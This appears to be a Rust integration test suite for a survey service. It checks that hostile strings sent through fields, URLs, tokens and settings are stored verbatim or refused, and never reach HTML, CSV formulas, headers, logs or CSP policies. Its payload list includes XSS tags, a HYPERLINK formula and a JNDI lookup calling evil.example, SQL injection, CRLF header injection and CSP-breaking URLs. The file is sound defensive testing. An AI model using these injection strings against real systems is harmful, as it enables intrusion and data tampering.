//! Strings that would do harm where they are taken for something else, through every field that
//! takes text, to every output.

use reqwest::{Method, header};
use serde_json::{Value, json};

use super::{Office, send};
use crate::{
    databases::{TestDatabase, on_both},
    harness::{self, EVERY_TYPE},
};

on_both!(
    hostile_texts_stay_texts,
    every_text_of_every_type_comes_back_as_it_was_or_is_refused,
    hostile_settings_are_refused_or_inert,
    a_relay_that_a_policy_would_misread_is_refused,
);

/// What is tried.
fn texts() -> Vec<String> {
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</textarea><svg/onload=alert(1)>",
        "=HYPERLINK(\"http://evil.example\",\"x\")",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r\nset-cookie: a=b",
        "'; DROP TABLE surveys; --",
        "$1 {0} %s %n ${jndi:ldap://evil.example}",
        "\u{202e}desrever\u{202c}\u{2066}",
        "a\u{0}b",
        "\u{1b}[2J\u{7}",
        "e\u{301}\u{feff}\u{fffd}",
        "data: injected\n\nevent: x",
    ]
    .map(str::to_owned)
    .into_iter()
    .chain(["x".repeat(100_000)])
    .collect()
}

async fn hostile_texts_stay_texts(database: TestDatabase) {
    let office = Office::open(database).await;
    for (index, text) in texts().iter().enumerate() {
        let id = format!("hostile-{index}");
        let mut survey = super::survey(&id, 1);
        survey["title"] = json!({ "en": text });
        survey["description"] = json!({ "en": text });
        survey["questions"][1]["title"] = json!({ "en": text });
        survey["questions"][1]["options"][0]["title"] = json!({ "en": text });
        survey["languages"] = json!(["en"]);
        let response = office.post("/surveys", &survey).await;
        let status = response.status();
        assert!([201, 422].contains(&status.as_u16()), "{status} {text:?}");
        is_inert(&response, text);
        if status == 201 {
            read_back(&office, &id, text).await;
        }
        // As an id, in an address, a query, a header and a token's name.
        let mut named = super::survey("x", 1);
        named["id"] = json!(text);
        assert_eq!(
            office.post("/surveys", &named).await.status(),
            422,
            "{text:?}"
        );
        // A client sends no longer address than that.
        let name: String = text.chars().take(20_000).collect();
        let mut path = url_of(&office, &["api", "v1", "surveys", &name]);
        for end in [
            "",
            "results",
            "exports/csv",
            "exports/rows",
            "settings",
            "status",
        ] {
            if !end.is_empty() {
                let ends = end.split('/');
                let path_of = ["api", "v1", "surveys", &name].into_iter().chain(ends);
                path = url_of(&office, &path_of.collect::<Vec<_>>());
            }
            let request = office.running.http.get(path.clone());
            let response = request.bearer_auth(&office.operator).send().await.unwrap();
            assert!(
                [404, 414, 431].contains(&response.status().as_u16()),
                "{text:?} {end}"
            );
            if matches!(response.status().as_u16(), 414 | 431) {
                // Refused before it was read, without a word.
                assert_eq!(response.bytes().await.unwrap().len(), 0);
            } else {
                is_inert(&response, text);
            }
        }
        let token = json!({ "name": text, "role": "viewer" });
        let response = office.post("/tokens", &token).await;
        let status = response.status().as_u16();
        assert!([201, 400, 413].contains(&status), "{status} {text:?}");
        is_inert(&response, text);
    }
    let names = office.get("/tokens").await;
    let names = names.as_array().unwrap().iter().map(|token| &token["name"]);
    assert!(
        names
            .filter_map(Value::as_str)
            .all(|name| !name.contains(char::is_control))
    );
}

fn url_of(office: &Office, segments: &[&str]) -> reqwest::Url {
    let mut url: reqwest::Url = office.running.collector.url().parse().unwrap();
    url.path_segments_mut().unwrap().clear().extend(segments);
    url
}

/// The headers that keep a browser from taking an answer for a page.
fn is_inert(response: &reqwest::Response, text: &str) {
    let headers = response.headers();
    let kind = headers[header::CONTENT_TYPE].to_str().unwrap();
    assert!(!kind.contains("html"), "{kind} {text:?}");
    assert_eq!(
        headers[header::X_CONTENT_TYPE_OPTIONS],
        "nosniff",
        "{text:?}"
    );
    assert!(headers.contains_key(header::CONTENT_SECURITY_POLICY));
    assert!(!headers.contains_key(header::SET_COOKIE));
}

/// What was published comes back as it was, as JSON and as an event, and nowhere else.
async fn read_back(office: &Office, id: &str, text: &str) {
    let survey = office.get(&format!("/surveys/{id}")).await;
    assert_eq!(survey["title"]["en"], *text);
    assert_eq!(survey["questions"][1]["options"][0]["title"]["en"], *text);
    let listed = office.get("/surveys").await;
    let listed = listed.as_array().unwrap().iter();
    assert!(listed.into_iter().any(|one| one["title"]["en"] == *text));
    let keep = json!({"keep_rows": true, "results": "public"});
    let response = office
        .patch(&format!("/surveys/{id}/settings"), &keep)
        .await;
    assert_eq!(response.status(), 200);
    let survey: sotto_survey::Survey = serde_json::from_value(survey).unwrap();
    let mut generator = <rand::rngs::ChaCha20Rng as rand::SeedableRng>::seed_from_u64(1);
    let answers: Vec<_> = survey
        .questions()
        .iter()
        .map(|question| Some(question.answer(0).unwrap()))
        .collect();
    let submission = survey.randomize(&answers, &mut generator).unwrap();
    let address = office
        .running
        .address(&format!("/api/v1/surveys/{id}/submissions"));
    let posted = harness::post(&office.running.http, &address, submission.body(&survey)).await;
    assert_eq!(posted.status(), 201);
    for end in [
        "results",
        "exports/reports",
        "exports/ndjson",
        "exports/csv",
        "exports/rows-labelled",
        "exports/report",
        "exports/parquet",
    ] {
        let path = format!("/surveys/{id}/{end}");
        let request = office.request(Method::GET, &path, &office.operator);
        let response = send(request, None).await;
        assert_eq!(response.status(), 200, "{path}");
        is_inert(&response, text);
        let bytes = response.bytes().await.unwrap();
        let found = String::from_utf8_lossy(&bytes);
        // Results and rows as they were sent name ids alone; all else names what was asked, each in its own way.
        if ["results", "exports/reports", "exports/ndjson"].contains(&end) {
            assert!(!found.contains(text), "{path} {text:?}");
        }
        if ["exports/reports", "exports/csv", "exports/rows-labelled"].contains(&end) {
            for record in csv::Reader::from_reader(&bytes[..]).records() {
                for cell in &record.unwrap() {
                    let number = cell.parse::<f64>().is_ok();
                    assert!(number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
                }
            }
        }
    }
    let mut live = office
        .running
        .get(&format!("/api/v1/surveys/{id}/results/live"))
        .await;
    let event = live.chunk().await.unwrap().unwrap();
    let event = String::from_utf8(event.to_vec()).unwrap();
    assert_eq!(event.matches("\n\n").count(), 1, "{event}");
}

/// Puts `text` in place of every text for people, wherever a survey has one; how many there were.
fn poison(value: &mut Value, text: &str) -> usize {
    match value {
        Value::Object(members) if members.get("en").is_some_and(Value::is_string) => {
            *value = json!({ "en": text });
            1
        }
        Value::Object(members) => members.values_mut().map(|one| poison(one, text)).sum(),
        Value::Array(elements) => elements.iter_mut().map(|one| poison(one, text)).sum(),
        _ => 0,
    }
}

async fn every_text_of_every_type_comes_back_as_it_was_or_is_refused(database: TestDatabase) {
    let office = Office::open(database).await;
    let mut accepted = 0;
    for (index, text) in texts().iter().enumerate() {
        let id = format!("every-{index}");
        let mut survey: Value = serde_json::from_str(EVERY_TYPE).unwrap();
        survey["id"] = json!(id);
        survey["languages"] = json!(["en"]);
        let labels = json!({ "low": { "en": "" }, "high": { "en": "" } });
        for question in survey["questions"].as_array_mut().unwrap() {
            question["help"] = json!({ "en": "" });
            if question["type"] == "rating" || question["type"] == "nps" {
                question["labels"] = labels.clone();
            }
        }
        // Titles, descriptions, help, options, rows, fields, units, labels, pages.
        assert!(poison(&mut survey, text) > 60);
        let response = office.post("/surveys", &survey).await;
        let status = response.status();
        is_inert(&response, text);
        if status == 422 {
            let problem = response.text().await.unwrap();
            assert!(!problem.contains(text.as_str()), "{text:?}");
            continue;
        }
        assert_eq!(status, 201, "{text:?}");
        accepted += 1;
        let mut read = office.get(&format!("/surveys/{id}")).await;
        assert_eq!(poison(&mut read.clone(), ""), poison(&mut survey, ""));
        // All of them came back as they were.
        let before = read.clone();
        poison(&mut read, text);
        assert_eq!(read, before, "{text:?}");
        // What is made of answers names ids alone, but for files that are to be kept.
        for (end, names_ids) in [
            ("results", true),
            ("status", true),
            ("settings", true),
            ("exports/csv", false),
            ("exports/codebook", false),
            ("exports/xlsx", false),
        ] {
            let path = format!("/surveys/{id}/{end}");
            let response = send(office.request(Method::GET, &path, &office.operator), None).await;
            assert_eq!(response.status(), 200, "{path}");
            is_inert(&response, text);
            if names_ids {
                let found = response.text().await.unwrap();
                assert!(!found.contains(text.as_str()), "{path} {text:?}");
            } else {
                let kept = response.headers()[header::CONTENT_DISPOSITION].clone();
                assert!(kept.to_str().unwrap().starts_with("attachment"), "{path}");
            }
        }
    }
    assert!(accepted > 5, "{accepted}");
    let metrics = office.running.get("/metrics").await;
    let kind = metrics.headers()[header::CONTENT_TYPE].clone();
    assert!(kind.to_str().unwrap().starts_with("text/plain"), "{kind:?}");
    let metrics = metrics.text().await.unwrap();
    let log = office.get("/audit-log").await.to_string();
    for text in texts() {
        assert!(!metrics.contains(&text), "{text:?}");
        assert!(!log.contains(&text), "{text:?}");
    }
}

async fn a_relay_that_a_policy_would_misread_is_refused(database: TestDatabase) {
    let office = Office::open(database).await;
    let settings = "/surveys/census/settings";
    for url in [
        "https://a;sandbox/",
        "https://a,sandbox/",
        "https://a;report-uri/",
        "https://x;script-src*/",
        "https://*/",
        "https://*.evil.example/",
        "https://a'b/",
        "https://a\"b/",
        "https://a{b}~/",
        "https://a!b$c&d(e)f+g=h/",
    ] {
        let patch = json!({ "relay": { "url": url, "seconds": 0 } });
        let response = office.patch(settings, &patch).await;
        assert_eq!(response.status(), 422, "{url}");
    }
    let patch = json!({ "relay": { "url": "https://relay.example/", "seconds": 0 } });
    assert_eq!(office.patch(settings, &patch).await.status(), 200);
}

async fn hostile_settings_are_refused_or_inert(database: TestDatabase) {
    let office = Office::open(database).await;
    let settings = "/surveys/census/settings";
    for text in texts() {
        for patch in [
            json!({ "access": "class-code", "class_code": text }),
            json!({ "webhook": { "url": text } }),
            json!({ "webhook": { "url": format!("https://a.example/{text}") } }),
            json!({ "origins": [text] }),
            json!({ "frame_ancestors": [text] }),
            json!({ "frame_ancestors": [format!("https://a.example {text}")] }),
            json!({ "relay": { "url": format!("https://a{text}/"), "seconds": 0 } }),
            json!({ "closes": text }),
            json!({ text.as_str(): text }),
        ] {
            let response = office.patch(settings, &patch).await;
            let status = response.status().as_u16();
            let what = patch.to_string().chars().take(200).collect::<String>();
            assert!([200, 413, 422].contains(&status), "{status} {what}");
            is_inert(&response, &text);
            if status != 200 {
                let problem = response.text().await.unwrap();
                assert!(!problem.contains(text.as_str()), "{what}");
            }
            // Whatever was taken stays in its place: no header of a page comes of it, and no policy.
            let page = office.running.get("/embed/frame.html?survey=census").await;
            let policy = page.headers()[header::CONTENT_SECURITY_POLICY].clone();
            let policy = policy.to_str().unwrap();
            assert!(
                !policy.contains("evil") && !policy.contains(text.as_str()),
                "{policy}"
            );
            assert!(!page.headers().contains_key(header::SET_COOKIE));
            let status = office.get("/surveys/census/status").await;
            assert!(!status.to_string().contains(text.as_str()), "{what}");
        }
        let back = json!({
            "access": "open", "class_code": null, "webhook": null, "origins": null, "frame_ancestors": null,
            "relay": null
        });
        assert_eq!(
            office.patch(settings, &back).await.status(),
            200,
            "{text:?}"
        );
        // Codes, invites and tokens as they are typed.
        for path in [
            "/surveys/census/invites/check",
            "/surveys/census/unlinkable-tokens",
            "/setup",
            "/session",
        ] {
            let body = json!({
                "invite": text, "blinded": text, "setup_token": text, "name": text, "token": text
            });
            let response = office.post(path, &body).await;
            assert!(response.status().is_client_error(), "{path} {text:?}");
            is_inert(&response, &text);
            let problem = response.text().await.unwrap();
            assert!(!problem.contains(text.as_str()), "{path} {text:?}");
        }
    }
}
